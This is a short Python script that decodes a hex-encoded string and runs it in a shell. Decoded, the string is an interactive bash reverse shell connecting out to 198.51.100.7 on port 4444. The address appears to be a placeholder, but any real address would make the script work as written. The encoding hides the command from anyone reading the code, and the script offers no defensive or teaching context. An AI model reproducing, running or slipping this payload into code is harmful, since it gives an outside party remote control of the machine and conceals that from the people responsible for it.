import subprocess
payload = '62617368202d69203e26202f6465762f7463702f3139382e35312e3130302e372f3434343420303e2631'
subprocess.call(bytes.fromhex(payload).decode(), shell=True)
